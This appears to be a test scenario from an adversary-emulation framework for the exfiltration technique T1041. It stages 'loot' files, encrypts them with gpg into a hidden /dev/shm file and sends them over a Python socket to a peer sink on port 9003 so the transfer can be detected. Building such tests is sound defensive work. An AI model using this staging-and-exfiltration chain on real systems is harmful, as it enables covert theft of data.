#!/usr/bin/env bash
# Staging + exfiltration: tar | gpg --symmetric into /dev/shm, then a Python socket sends it.
. "$(dirname "$0")/../lib.sh"
scn_begin exfil-gpg-python T1041
scn_require tar gpg
[ -n "$SCN_PY" ] || scn_skip "python3 is not installed"
scn_sink_peer 9003
scn_loot
export GNUPGHOME="$SCN_WORK/gnupg"
mkdir -m 700 "$GNUPGHOME"
out="/dev/shm/.scn-$SCN_RUN_ID.gpg"
scn_newfile "$out"
tar -C "$SCN_LOOT" -cf - . | gpg --batch --quiet --pinentry-mode loopback --passphrase scn \
    --symmetric --cipher-algo AES256 -o "$out"
gpgconf --kill gpg-agent >/dev/null 2>&1 || true
scn_run_key "$SCN_PY" -c 'import socket, sys
s = socket.create_connection((sys.argv[1], 9003), timeout=5)
s.sendall(open(sys.argv[2], "rb").read()); s.close()' "$SCN_PEER" "$out"
scn_wait_size "$SCN_SINK" "$(stat -c %s "$out")" || scn_fail "the peer did not get the whole file"
